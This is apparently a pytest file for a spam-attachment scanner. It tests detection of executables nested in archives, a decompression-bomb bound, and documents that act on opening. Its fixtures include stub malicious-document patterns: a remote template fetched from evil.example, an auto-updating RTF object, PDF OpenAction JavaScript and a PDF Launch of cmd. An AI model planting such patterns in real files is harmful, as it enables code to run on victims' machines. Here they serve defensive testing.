"""What lies one level down in archives and what documents do on opening; bounded, and any bytes are read."""

import bz2
import gzip
import io
import lzma
import tarfile
import zipfile
from struct import pack

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spamatlas.parse.mail.archive import listing_of, zip_entries
from spamatlas.parse.mail.file import held_in, kind_of, listed_in
from spamatlas.parse.mail.packed import MOST_BYTES, beginnings

PROGRAM = b"MZ\x90\0\3\0\0\0" + bytes(60) + b"PE\0\0"


def zipped(name: str, body: bytes, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        archive.writestr(name, body)
    return file.getvalue()


def tarred(name: str) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for each in ("read.txt", name):
            entry = tarfile.TarInfo(each)
            entry.size = 3
            archive.addfile(entry, io.BytesIO(b"abc"))
    return file.getvalue()


def cabinet(*names: str) -> bytes:
    """The header and the list of [MS-CAB], section 2.1, of files that hold nothing."""
    files = b"".join(pack("<IIHHHH", 0, 0, 0, 0, 0, 32) + name.encode() + b"\0" for name in names)
    return b"MSCF" + pack("<IIIIIBBHHHHH", 0, 36 + len(files), 0, 36, 0, 3, 1, 0, len(names), 0, 0, 0) + files


def held(body: bytes) -> set[str]:
    kind = kind_of(body)
    return set(held_in(body, kind, listed_in(body, kind)))


@pytest.mark.parametrize(
    "body",
    [
        zipped("b.zip", zipped("a.exe", b"x")),
        zipped("b.zip", zipped("a.exe", b"x"), zipfile.ZIP_STORED),
        zipped("c.zip", zipped("b.zip", zipped("a.exe", b"x"))),
        zipped("reading.dat", PROGRAM),
        zipped("reading.dat", PROGRAM, zipfile.ZIP_STORED),
        zipped("b.cab", cabinet("a.exe")),
        zipped("b.gz", gzip.compress(PROGRAM)),
        gzip.compress(PROGRAM),
        bz2.compress(PROGRAM),
        lzma.compress(PROGRAM),
        gzip.compress(tarred("a.exe")),
        tarred("a.exe"),
        tarred("a" * 120 + ".exe"),
        cabinet("letter.txt", "a.exe"),
        b"\x1f\x8b\x08\x08" + bytes(6) + b"invoice.js\0",
    ],
    ids=map(str, range(15)),
)
def test_a_program_is_seen_within(body: bytes) -> None:
    assert kind_of(body) == "archive"
    assert held(body) == {"program"}


@pytest.mark.parametrize(
    "body",
    [
        zipped("b.zip", zipped("a.txt", b"x")),
        zipped("reading.dat", b"MZ is how this text begins, and it goes on for a while longer than that"),
        gzip.compress(b"a text"),
        gzip.compress(tarred("a.txt")),
        bz2.compress(b"a text"),
        tarred("a.txt"),
        cabinet("letter.txt"),
    ],
    ids=map(str, range(7)),
)
def test_the_innocent_twin_holds_none(body: bytes) -> None:
    assert kind_of(body) == "archive"
    assert not held(body)


def test_the_lists_of_cabinets_and_tars_are_read() -> None:
    assert listing_of(cabinet("a.txt", "b.txt")).names == ("a.txt", "b.txt")
    assert listing_of(tarred("b.txt")).names == ("read.txt", "b.txt")


def test_what_unpacks_to_a_thousand_times_its_size_is_unpacked_no_further_than_the_bound() -> None:
    (start,) = beginnings(gzip.compress(bytes(50_000_000)))
    assert len(start) == MOST_BYTES
    assert all(len(each) <= MOST_BYTES for each in beginnings(zipped("a", bytes(50_000_000))))


TEMPLATE = (
    b'<Relationships><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="%s" TargetMode="External"/>'
    b"</Relationships>"
)


def document(target: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "x")
        archive.writestr("word/_rels/settings.xml.rels", TEMPLATE % target)
    return file.getvalue()


@pytest.mark.parametrize(
    ("acts", "is_quiet"),
    [
        (document(b"https://evil.example/t.dotm"), document(b"file:///C:/Templates/Letter.dotx")),
        (b"{\\rtf1{\\object\\objautlink\\objupdate}}", b"{\\rtf1{\\object\\objemb}}"),
        (
            b"%PDF-1.4\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (x) >> >>\nendobj",
            b"%PDF-1.4\n1 0 obj\n<< /OpenAction [3 0 R /Fit] >>\nendobj\n4 0 obj\n<< /S /JavaScript >>\nendobj",
        ),
        (
            b"%PDF-1.4\n1 0 obj\n<< /OpenAction 5 0 R >>\nendobj\n5 0 obj\n<< /S /Launch /F (cmd) >>\nendobj",
            b"%PDF-1.4\n1 0 obj\n<< /OpenAction 5 0 R >>\nendobj\n5 0 obj\n<< /S /GoTo >>\nendobj\n/S /Launch",
        ),
    ],
)
def test_what_a_document_does_on_opening_is_seen_and_its_innocent_twin_does_nothing(
    acts: bytes, is_quiet: bytes
) -> None:
    assert held(acts) == {"action"}
    assert not held(is_quiet)


STARTS = st.sampled_from(
    [b"", b"PK\3\4", b"PK\1\2", b"MSCF\0\0\0\0", b"\x1f\x8b\x08\x0c", b"BZh91AY&SY", b"\xfd7zXZ\0"]
)


@given(STARTS, st.binary(max_size=300))
def test_any_bytes_are_read(start: bytes, rest: bytes) -> None:
    body = start + rest
    held(body)
    list(zip_entries(body))


@given(
    st.sampled_from(
        [zipped("b.zip", zipped("a.exe", b"x")), tarred("a.exe"), cabinet("a.exe"), document(b"https://a.example/b")]
    ),
    st.integers(0, 2_000),
    st.binary(min_size=1, max_size=4),
)
def test_a_broken_archive_is_read_as_far_as_it_goes(body: bytes, at: int, put: bytes) -> None:
    place = at % len(body)
    held(body[:place] + put + body[place + len(put) :])
    held(body[:place])
